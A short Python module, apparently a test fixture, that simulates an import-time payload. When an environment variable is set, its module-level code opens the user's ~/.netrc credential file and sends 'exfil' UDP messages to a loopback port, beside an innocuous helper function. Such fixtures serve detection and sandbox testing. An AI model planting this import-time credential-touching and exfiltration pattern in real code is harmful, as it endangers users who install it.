# Import-time payload: module-level code.
import os
import socket

_port = int(os.environ.get("PREMAIN_SINK_PORT", "0"))
if _port:
    open(os.path.join(os.path.expanduser("~"), ".netrc")).close()
    socket.create_connection(("127.0.0.1", _port), timeout=3).close()
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"exfil.example", ("127.0.0.1", _port))
    u.sendmsg([b"exfil2.example"], [], 0, ("127.0.0.2", _port))
    u.close()


def helper():
    return 42
